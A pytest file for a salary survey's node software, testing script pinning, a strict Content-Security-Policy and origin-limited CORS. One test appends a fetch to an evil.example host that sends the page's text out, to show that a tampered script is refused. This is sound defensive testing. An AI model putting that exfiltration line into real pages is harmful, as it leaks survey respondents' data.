"""The survey's browser page: pinned by the organiser, checked and kept by every node, served under
a strict policy, and cross-origin access to exactly the three routes a page needs.

The page used here is a small real one built in a temporary directory (an index.html with a
module script tag carrying the script's integrity, and the script): it exercises the mechanism,
whatever the project's own page holds.
"""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import json
import sqlite3
import ssl
import sys
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

import analyst.survey as survey_mod
from analyst.cli import main as analyst_cli
from analyst.pagecheck import check_pages
from analyst.survey import create_survey
from conftest import Survey, make_survey
from demo.cluster import LocalCluster, free_ports, run, tool
from mpc_nodes.cli import main as node_cli
from mpc_nodes.keys import keygen, load_public
from mpc_nodes.server import create_app
from mpc_nodes.store import NodeStore
from protocol.errors import InvalidWebPage
from protocol.manifest import load_manifest
from protocol.tls import pinned_client_context
from protocol.webpage import WebPage, integrity_of
from protocol.wire import MAX_BODY_BYTES

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "scripts"))
import public_api_attack as attack  # noqa: E402

SID = "test-survey"
BASE = f"/v1/surveys/{SID}"
SCRIPT = b"const out = document.getElementById('out');\nout.textContent = 'salary page';\n"
OTHER_SITE = "https://survey.example.org"


def page_html(integrity: str, extra: str = "") -> bytes:
    return (f'<!doctype html>\n<html lang="en"><head><meta charset="utf-8"><title>Salary survey</title>\n'
            f'<script type="module" src="salary-page.js" integrity="{integrity}" crossorigin="anonymous"></script>\n'
            f'</head><body><p id="out"></p>{extra}</body></html>\n').encode()


def write_page(d: Path, script: bytes = SCRIPT, html: bytes | None = None) -> Path:
    d.mkdir(parents=True, exist_ok=True)
    (d / "salary-page.js").write_bytes(script)
    (d / "index.html").write_bytes(page_html(integrity_of(script)) if html is None else html)
    return d


def one_line(result: Any) -> str:
    assert result.exit_code == 1, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1, result.output
    return str(lines[0])


# ---------------------------------------------------------------------------- the page's own checks

def test_integrity_is_the_base64_sha256_of_the_script() -> None:
    assert integrity_of(SCRIPT) == "sha256-" + base64.b64encode(hashlib.sha256(SCRIPT).digest()).decode()


def test_a_page_whose_html_loads_its_script_with_the_right_integrity_passes(tmp_path: Path) -> None:
    page = WebPage.from_dir(write_page(tmp_path / "page"))
    assert page.script_sha256() == hashlib.sha256(SCRIPT).hexdigest()
    page.check_pinned(hashlib.sha256(SCRIPT).hexdigest())


@pytest.mark.parametrize(("html", "message"), [
    (page_html("sha256-AAAA"), "index.html must load salary-page.js once with integrity=\"{want}\" (the SHA-256 of "
                               "the salary-page.js beside it); found integrity='sha256-AAAA'"),
    (b"<html><body>no script</body></html>", "index.html must load salary-page.js once with integrity=\"{want}\" "
                                             "(the SHA-256 of the salary-page.js beside it); found no such script tag"),
    (page_html("{want}", "<script>alert(1)</script>"), "index.html has an inline script, which the nodes' "
                                                       "Content-Security-Policy blocks"),
    (page_html("{want}", '<button onclick="go()">Go</button>'), "index.html has an inline event handler (onclick "
                                                                "on <button>), which the nodes' "
                                                                "Content-Security-Policy blocks"),
    (page_html("{want}", '<script src="https://cdn.example/x.js"></script>'),
     "index.html loads another script ('https://cdn.example/x.js'; the nodes serve only salary-page.js), which "
     "the nodes' Content-Security-Policy blocks"),
    (b"\xff\xfe<html>", "index.html is not UTF-8"),
])
def test_a_page_the_nodes_could_not_serve_is_refused_with_one_line(tmp_path: Path, html: bytes, message: str) -> None:
    want = integrity_of(SCRIPT)
    with pytest.raises(InvalidWebPage) as exc:
        WebPage(html.replace(b"{want}", want.encode()), SCRIPT).check()
    assert str(exc.value) == message.format(want=want)


def test_a_json_data_block_is_not_an_inline_script() -> None:
    extra = '<script type="application/json" id="strings">{"title": "Umfrage"}</script>'
    WebPage(page_html(integrity_of(SCRIPT), extra), SCRIPT).check()


def test_a_pinned_page_must_be_the_pinned_script() -> None:
    page = WebPage(page_html(integrity_of(SCRIPT)), SCRIPT)
    with pytest.raises(InvalidWebPage, match=r"^salary-page.js has SHA-256 [0-9a-f]{64}, the manifest pins 0{64}$"):
        page.check_pinned("0" * 64)


def test_a_bundle_page_round_trips_and_a_malformed_one_is_refused() -> None:
    page = WebPage(page_html(integrity_of(SCRIPT)), SCRIPT)
    assert WebPage.from_bundle(json.loads(json.dumps(page.to_bundle()))) == page
    with pytest.raises(InvalidWebPage) as exc:
        WebPage.from_bundle({"index_html": "", "salary_page_js": "", "more": ""})
    assert str(exc.value) == "survey bundle: web_page must be an object with the base64 fields index_html and " \
                             "salary_page_js"
    with pytest.raises(InvalidWebPage) as exc:
        WebPage.from_bundle({"index_html": "!!", "salary_page_js": ""})
    assert str(exc.value) == "survey bundle: web_page holds a field that is not base64"


# ------------------------------------------------------------------------- salary-analyst create

def _nodes(tmp: Path, web_url: str = "") -> list[str]:
    args = []
    for i in range(3):
        https, mpc = free_ports(2)
        keygen(tmp / f"node{i}", f"node{i}", f"https://127.0.0.1:{https}", f"127.0.0.1:{mpc}",
               web_url=web_url.format(i=i))
        args += ["--node", str(tmp / f"node{i}" / "node.json")]
    return args


def _create(tmp: Path, *extra: str, web_url: str = "") -> Any:
    return CliRunner().invoke(analyst_cli, ["create", "--out", str(tmp / "survey"), "--survey-id", SID,
                                            "--tokens", "4", *_nodes(tmp, web_url), *extra])


def test_create_pins_the_page_carries_it_to_the_nodes_and_writes_links(tmp_path: Path) -> None:
    page_dir = write_page(tmp_path / "page")
    r = _create(tmp_path, "--web-page", str(page_dir), "--language", "de", "--web-origin", OTHER_SITE,
                web_url="https://node{i}.example.org")
    assert r.exit_code == 0, r.output
    sdir = tmp_path / "survey"
    m = load_manifest(sdir / "manifest.json")
    assert m.web_page_sha256 == hashlib.sha256(SCRIPT).hexdigest()
    assert (m.language, m.web_origins) == ("de", (OTHER_SITE,))
    assert [nd.web_url for nd in m.nodes] == [f"https://node{i}.example.org" for i in range(3)]
    bundle = json.loads((sdir / "node-bundle.json").read_text())
    assert WebPage.from_bundle(bundle["web_page"]) == WebPage.from_dir(page_dir)
    assert WebPage.from_dir(sdir / "page") == WebPage.from_dir(page_dir)
    tokens = (sdir / "tokens.txt").read_text().split()
    links = (sdir / "links.txt").read_text().splitlines()
    assert links == [f"https://node0.example.org/v1/surveys/{SID}/page/#t={t}&m={m.hash_hex()}" for t in tokens]
    assert (sdir / "links.txt").stat().st_mode & 0o777 == 0o600
    assert f"salary-page.js SHA-256 {m.web_page_sha256}" in r.output


def test_create_defaults_to_the_packaged_page_and_no_web_page_leaves_it_out(tmp_path: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(survey_mod, "PACKAGED_PAGE", write_page(tmp_path / "packaged"))
    assert _create(tmp_path / "a").exit_code == 0
    assert load_manifest(tmp_path / "a" / "survey" / "manifest.json").web_page_sha256 == \
        hashlib.sha256(SCRIPT).hexdigest()
    assert _create(tmp_path / "b", "--no-web-page").exit_code == 0
    sdir = tmp_path / "b" / "survey"
    raw = json.loads((sdir / "manifest.json").read_text())
    assert not {"web_page_sha256", "language", "web_origins"} & set(raw)
    assert "web_page" not in json.loads((sdir / "node-bundle.json").read_text())
    assert not (sdir / "links.txt").exists() and not (sdir / "page").exists()
    monkeypatch.setattr(survey_mod, "PACKAGED_PAGE", tmp_path / "nothing-here")
    assert _create(tmp_path / "c").exit_code == 0
    assert "web_page_sha256" not in json.loads((tmp_path / "c" / "survey" / "manifest.json").read_text())


def test_create_refuses_a_page_whose_html_does_not_pin_its_script(tmp_path: Path) -> None:
    page_dir = write_page(tmp_path / "page", html=page_html(integrity_of(b"another script")))
    line = one_line(_create(tmp_path, "--web-page", str(page_dir)))
    assert line == (f"salary-analyst: error: index.html must load salary-page.js once with "
                    f"integrity=\"{integrity_of(SCRIPT)}\" (the SHA-256 of the salary-page.js beside it); found "
                    f"integrity='{integrity_of(b'another script')}'")
    assert not (tmp_path / "survey" / "manifest.json").exists()


@pytest.mark.parametrize(("extra", "message"), [
    (("--no-web-page", "--web-page", "{page}"), "salary-analyst: error: give --web-page or --no-web-page, not both"),
    (("--web-origin", "https://x.example/"), "salary-analyst: error: web_origins: 'https://x.example/' is not an "
                                             "origin https://HOST[:PORT] (lower case, port 1-65535, no path or "
                                             "trailing slash)"),
    (("--language", "Deutsch"), "salary-analyst: error: language: 'Deutsch' is not a BCP 47 tag such as 'en', 'de' "
                                "or 'zh-TW' (at most 35 characters)"),
])
def test_create_refuses_bad_page_options_with_one_line(tmp_path: Path, extra: tuple[str, ...], message: str) -> None:
    page_dir = write_page(tmp_path / "page")
    assert one_line(_create(tmp_path, *(e.format(page=page_dir) for e in extra))) == message


def test_keygen_web_url_goes_into_node_json_and_a_bad_one_is_refused(tmp_path: Path) -> None:
    r = CliRunner().invoke(node_cli, ["keygen", "--dir", str(tmp_path / "n"), "--name", "n", "--url",
                                      "https://127.0.0.1:8441", "--mpc-address", "127.0.0.1:9441", "--web-url",
                                      "https://node.example.org/salary/"])
    assert r.exit_code == 0, r.output
    assert json.loads((tmp_path / "n" / "node.json").read_text())["web_url"] == "https://node.example.org/salary"
    assert load_public(tmp_path / "n").browser_url == "https://node.example.org/salary"
    r = CliRunner().invoke(node_cli, ["keygen", "--dir", str(tmp_path / "m"), "--name", "m", "--url",
                                      "https://127.0.0.1:8441", "--mpc-address", "127.0.0.1:9441", "--web-url",
                                      "http://node.example.org"])
    assert one_line(r) == "mpc-node: error: --web-url must look like https://HOST[:PORT][/PATH], got " \
                          "'http://node.example.org'"
    keygen(tmp_path / "plain", "p", "https://127.0.0.1:8441", "127.0.0.1:9441")
    assert "web_url" not in json.loads((tmp_path / "plain" / "node.json").read_text())


# ------------------------------------------------------------------------------- mpc-node init

def _paged_survey(tmp: Path, **kw: Any) -> Survey:
    return make_survey(tmp, web_page=WebPage.from_dir(write_page(tmp / "page")), **kw)


def _init(node_dir: Path, bundle: Path) -> Any:
    return CliRunner().invoke(node_cli, ["init", "--dir", str(node_dir), "--bundle", str(bundle)])


def _imported(node_dir: Path) -> list[str]:
    store = NodeStore(node_dir / "node.db")
    try:
        return store.survey_ids()
    finally:
        store.close()


def test_init_keeps_the_pinned_page_in_the_node_directory(tmp_path: Path) -> None:
    s = _paged_survey(tmp_path)
    r = _init(s.node_dirs[0], s.dir / "node-bundle.json")
    assert r.exit_code == 0, r.output
    kept = s.node_dirs[0] / "pages" / SID
    assert WebPage.from_dir(kept) == WebPage.from_dir(s.dir / "page")
    assert f"/v1/surveys/{SID}/page/" in r.output


@pytest.mark.parametrize(("change", "message"), [
    ("script", "mpc-node: error: salary-page.js has SHA-256 {got}, the manifest pins {pin}"),
    ("drop", "mpc-node: error: the manifest pins a page (salary-page.js SHA-256 {pin}) but the bundle carries none"),
])
def test_init_refuses_a_bundle_whose_page_is_not_the_pinned_one(tmp_path: Path, change: str, message: str) -> None:
    s = _paged_survey(tmp_path)
    bundle = json.loads((s.dir / "node-bundle.json").read_text())
    altered = SCRIPT + b"fetch('https://evil.example/?' + document.body.innerText);\n"
    if change == "script":
        bundle["web_page"]["salary_page_js"] = base64.b64encode(altered).decode()
    else:
        del bundle["web_page"]
    (tmp_path / "altered.json").write_text(json.dumps(bundle))
    line = one_line(_init(s.node_dirs[0], tmp_path / "altered.json"))
    assert line == message.format(got=hashlib.sha256(altered).hexdigest(), pin=s.manifest.web_page_sha256)
    assert _imported(s.node_dirs[0]) == []
    assert not (s.node_dirs[0] / "pages").exists()


def test_init_refuses_a_page_the_manifest_does_not_pin(tmp_path: Path) -> None:
    s = make_survey(tmp_path)
    bundle = json.loads((s.dir / "node-bundle.json").read_text())
    bundle["web_page"] = WebPage(page_html(integrity_of(SCRIPT)), SCRIPT).to_bundle()
    (tmp_path / "more.json").write_text(json.dumps(bundle))
    assert one_line(_init(s.node_dirs[0], tmp_path / "more.json")) == \
        "mpc-node: error: the manifest pins no page (no web_page_sha256), but a page came with it"
    assert _imported(s.node_dirs[0]) == []


# ------------------------------------------------------------------- serving, in process

@pytest.fixture
def paged(tmp_path: Path) -> Iterator[tuple[Survey, TestClient, NodeStore]]:
    s = _paged_survey(tmp_path, web_origins=(OTHER_SITE,))
    d = s.node_dirs[0]
    assert _init(d, s.dir / "node-bundle.json").exit_code == 0
    store = NodeStore(d / "node.db")
    with TestClient(create_app(d, store), base_url=s.manifest.nodes[0].url) as client:
        yield s, client, store
    store.close()


def test_the_page_is_served_under_a_strict_policy(paged: tuple[Survey, TestClient, NodeStore]) -> None:
    s, c, _ = paged
    r = c.get(f"{BASE}/page/")
    assert r.status_code == 200 and r.content == (s.dir / "page" / "index.html").read_bytes()
    assert r.headers["content-type"] == "text/html; charset=utf-8"
    assert r.headers["x-content-type-options"] == "nosniff"
    nodes = " ".join(nd.url for nd in s.manifest.nodes)
    assert r.headers["content-security-policy"] == (
        "default-src 'none'; script-src 'self'; worker-src 'self' blob:; "
        f"connect-src {nodes}; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; font-src 'self'; "
        "base-uri 'none'; form-action 'none'; frame-ancestors 'none'")
    r = c.get(f"{BASE}/page", follow_redirects=False)
    assert (r.status_code, r.headers["location"]) == (308, "page/")
    assert c.get(f"{BASE}/page").url.path == f"{BASE}/page/"
    r = c.get(f"{BASE}/page/salary-page.js")
    assert r.status_code == 200 and r.content == SCRIPT
    assert r.headers["content-type"] == "text/javascript; charset=utf-8"
    assert r.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert r.headers["etag"] == f'"{s.manifest.web_page_sha256}"'
    assert r.headers["x-content-type-options"] == "nosniff"


def test_a_script_altered_on_disk_is_never_served(paged: tuple[Survey, TestClient, NodeStore]) -> None:
    s, c, _ = paged
    assert c.get(f"{BASE}/page/salary-page.js").status_code == 200
    (s.node_dirs[0] / "pages" / SID / "salary-page.js").write_bytes(SCRIPT + b"// altered\n")
    r = c.get(f"{BASE}/page/salary-page.js")
    assert r.status_code == 500 and b"altered" not in r.content
    assert r.text == ("this node's salary-page.js is not the one the manifest pins; the node operator must import "
                      "the survey bundle again")


def test_a_survey_without_a_page_answers_404(tmp_path: Path) -> None:
    s = make_survey(tmp_path)
    d = s.node_dirs[0]
    assert _init(d, s.dir / "node-bundle.json").exit_code == 0
    with TestClient(create_app(d)) as c:
        for path in ("page/", "page/salary-page.js"):
            r = c.get(f"{BASE}/{path}")
            assert (r.status_code, r.text) == (404, f"survey {SID} has no browser page on this node")
        assert c.get("/v1/surveys/nope/page/").json()["reason"] == "unknown-survey"


def _cors(r: Any) -> dict[str, str]:
    return {k: v for k, v in r.headers.items() if k.lower().startswith("access-control-")}


def test_cors_only_on_the_three_routes_and_only_for_the_survey_origins(
        paged: tuple[Survey, TestClient, NodeStore]) -> None:
    s, c, _ = paged
    node1 = s.manifest.nodes[1].url
    for origin in (node1, OTHER_SITE, s.manifest.nodes[0].url):
        r = c.get(f"{BASE}/manifest", headers={"Origin": origin})
        assert r.status_code == 200
        assert _cors(r) == {"access-control-allow-origin": origin, "access-control-expose-headers": "retry-after"}
        assert r.headers["vary"] == "origin"
    for origin in ("https://evil.example", "null", node1 + "/", node1.upper(), "http://127.0.0.1"):
        r = c.get(f"{BASE}/manifest", headers={"Origin": origin})
        assert r.status_code == 200 and _cors(r) == {}
    auth = {"Authorization": f"Bearer {s.credential}", "Origin": OTHER_SITE}
    for path in ("status", "ids", "page/", "page/salary-page.js"):
        r = c.get(f"{BASE}/{path}", headers=auth)
        assert r.status_code == 200 and _cors(r) == {}, path
    assert _cors(c.get("/v1/health", headers={"Origin": OTHER_SITE})) == {}
    assert _cors(c.post(f"{BASE}/close", headers=auth)) == {}
    # an upload refused (no token known) still tells an allowed page why
    r = c.post(f"{BASE}/submissions", content=b"{}", headers={"Origin": OTHER_SITE, "content-type": "application/json"})
    assert r.status_code == 400 and _cors(r)["access-control-allow-origin"] == OTHER_SITE
    r = c.post(f"{BASE}/batches", content=b"{}", headers={"Origin": "https://evil.example",
                                                         "content-type": "application/json"})
    assert r.status_code == 400 and _cors(r) == {}
    # so do the guard's own answers, given before any route runs
    r = c.post(f"{BASE}/submissions", content=b"x" * (MAX_BODY_BYTES + 1), headers={"Origin": OTHER_SITE})
    assert r.status_code == 413 and _cors(r)["access-control-allow-origin"] == OTHER_SITE


def _audit(store: NodeStore) -> Any:
    db = sqlite3.connect(f"file:{store.path}?mode=ro", uri=True)
    try:
        return {t: db.execute(f"SELECT * FROM {t}").fetchall() for (t,) in
                db.execute("SELECT name FROM sqlite_master WHERE type='table' AND name != 'sqlite_sequence'")}
    finally:
        db.close()


def test_a_preflight_needs_no_token_answers_only_allowed_origins_and_leaves_no_trace(
        paged: tuple[Survey, TestClient, NodeStore]) -> None:
    s, c, store = paged
    before = _audit(store)
    for route, method in (("manifest", "GET"), ("submissions", "POST"), ("batches", "POST")):
        r = c.options(f"{BASE}/{route}", headers={"Origin": OTHER_SITE, "Access-Control-Request-Method": method,
                                                  "Access-Control-Request-Headers": "content-type"})
        assert r.status_code == 204 and r.content == b""
        assert _cors(r) == {"access-control-allow-origin": OTHER_SITE, "access-control-allow-methods": method,
                            "access-control-allow-headers": "content-type", "access-control-max-age": "600"}
        r = c.options(f"{BASE}/{route}", headers={"Origin": "https://evil.example",
                                                  "Access-Control-Request-Method": method})
        assert r.status_code == 204 and _cors(r) == {}
        other = "DELETE" if method == "POST" else "POST"
        r = c.options(f"{BASE}/{route}", headers={"Origin": OTHER_SITE, "Access-Control-Request-Method": other})
        assert r.status_code == 204 and _cors(r) == {}
    r = c.options(f"{BASE}/status", headers={"Origin": OTHER_SITE, "Access-Control-Request-Method": "GET"})
    assert r.status_code == 405 and _cors(r) == {}
    r = c.options("/v1/surveys/nope/submissions", headers={"Origin": OTHER_SITE,
                                                           "Access-Control-Request-Method": "POST"})
    assert r.status_code == 204 and _cors(r) == {}
    assert _audit(store) == before


# ------------------------------------------------------------- real nodes over HTTPS, check-page

@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalCluster]:
    root = tmp_path_factory.mktemp("paged")
    page = write_page(root / "page-build")
    c = LocalCluster(root / "run", tokens=4, survey_id=SID,
                     create_args=("--web-page", str(page), "--web-origin", OTHER_SITE))
    c.setup()
    try:
        c.start_all()
        yield c
    finally:
        c.stop_all()


def _client(c: LocalCluster, j: int) -> httpx.Client:
    m = load_manifest(c.manifest)
    return httpx.Client(base_url=f"{m.nodes[j].url}{BASE}", verify=pinned_client_context(m.nodes[j].tls_cert_pem))


@pytest.mark.slow
def test_a_real_node_serves_the_page_and_lets_an_allowed_origin_upload(live: LocalCluster) -> None:
    m = load_manifest(live.manifest)
    token = live.tokens_file.read_text().split()[0]
    assert (live.survey_dir / "links.txt").read_text().splitlines()[0] == \
        f"{m.nodes[0].url}{BASE}/page/#t={token}&m={m.hash_hex()}"
    with _client(live, 0) as node:
        r = node.get("page/")
        assert r.status_code == 200 and r.content == (live.survey_dir / "page" / "index.html").read_bytes()
        assert "script-src 'self';" in r.headers["content-security-policy"] and _cors(r) == {}
        assert node.get("page/salary-page.js").content == SCRIPT
        ask = {"Origin": OTHER_SITE, "Access-Control-Request-Method": "POST",
               "Access-Control-Request-Headers": "content-type"}
        r = node.options("submissions", headers=ask)
        assert r.status_code == 204 and _cors(r)["access-control-allow-origin"] == OTHER_SITE
        r = node.options("submissions", headers={**ask, "Origin": "https://evil.example"})
        assert r.status_code == 204 and _cors(r) == {}
        sid, body = attack.honest_single(m, 0, token)
        r = node.post("submissions", content=body, headers={"Origin": OTHER_SITE, "content-type": "application/json"})
        assert r.status_code == 200 and r.json()["submission_id"] == sid
        assert _cors(r) == {"access-control-allow-origin": OTHER_SITE, "access-control-expose-headers": "retry-after"}
        r = node.get("manifest", headers={"Origin": m.nodes[2].url})
        assert r.content == m.canonical_bytes() and _cors(r)["access-control-allow-origin"] == m.nodes[2].url


@pytest.mark.slow
def test_check_page_names_every_node_that_serves_another_page(live: LocalCluster) -> None:
    check = [tool("salary-analyst"), "check-page", "--survey", str(live.survey_dir)]
    ok = run(check, check=False)
    assert ok.returncode == 0, ok.stderr
    lines = ok.stdout.splitlines()
    m = load_manifest(live.manifest)
    assert lines == [f"node {j} (node{j}, {m.nodes[j].url}): serves the survey's page" for j in range(3)] + \
        [f"every node serves the survey's page (salary-page.js SHA-256 {m.web_page_sha256})"]
    html_1 = live.node_dirs[1] / "pages" / SID / "index.html"
    script_2 = live.node_dirs[2] / "pages" / SID / "salary-page.js"
    lying_html = html_1.read_bytes().replace(b"</body>", b"<p>also here</p></body>")
    html_1.write_bytes(lying_html)
    script_2.write_bytes(SCRIPT + b"// altered on disk\n")
    bad = run(check, check=False)
    assert bad.returncode == 1
    lines = bad.stdout.splitlines()
    own = hashlib.sha256((live.survey_dir / "page" / "index.html").read_bytes()).hexdigest()
    assert lines == [
        f"node 0 (node0, {m.nodes[0].url}): serves the survey's page",
        f"node 1 (node1, {m.nodes[1].url}): MISMATCH: index.html is not the survey's copy (SHA-256 "
        f"{hashlib.sha256(lying_html).hexdigest()}, the survey's {own})",
        f"node 2 (node2, {m.nodes[2].url}): MISMATCH: salary-page.js: HTTP 500 (this node's salary-page.js is not the "
        "one the manifest pins; the node operator must import the survey bundle again)",
    ]
    assert bad.stderr.strip() == "salary-analyst: error: node(s) 1, 2 do not serve the survey's page"


@pytest.mark.slow
def test_check_page_also_fetches_the_page_as_a_browser_does_at_web_url(live: LocalCluster, tmp_path: Path) -> None:
    """A second survey on the running nodes, each node's web_url its own address: the check asks
    there too, trusting what a browser trusts (here: the nodes' certificates, standing in for a
    public authority; with the system's authorities a self-signed node is refused)."""
    infos = [dataclasses.replace(load_public(d), web_url=load_public(d).url) for d in live.node_dirs]
    sdir = tmp_path / "web-survey"
    m = create_survey(sdir, infos, survey_id="web-survey", tokens=2,
                      web_page=WebPage.from_dir(write_page(tmp_path / "page")))
    for d in live.node_dirs:
        assert _init(d, sdir / "node-bundle.json").exit_code == 0
    browser = ssl.create_default_context(cadata="".join(nd.tls_cert_pem for nd in m.nodes))
    _, answers = check_pages(sdir, browser)
    assert [a.problems for a in answers] == [(), (), ()]
    _, answers = check_pages(sdir)
    for a, nd in zip(answers, m.nodes):
        assert len(a.problems) == 1 and a.problems[0].startswith(
            f"at {nd.web_url}: unreachable with a browser-trusted certificate (ConnectError: "), a.problems
    kept = live.node_dirs[0] / "pages" / "web-survey" / "index.html"
    kept.write_bytes(kept.read_bytes() + b"<!-- altered -->")
    _, answers = check_pages(sdir, browser)
    want = (f"index.html is not the survey's copy (SHA-256 {hashlib.sha256(kept.read_bytes()).hexdigest()}, the "
            f"survey's {hashlib.sha256((sdir / 'page' / 'index.html').read_bytes()).hexdigest()})")
    assert [a.problems for a in answers] == [(want, f"at {m.nodes[0].web_url}: {want}"), (), ()]
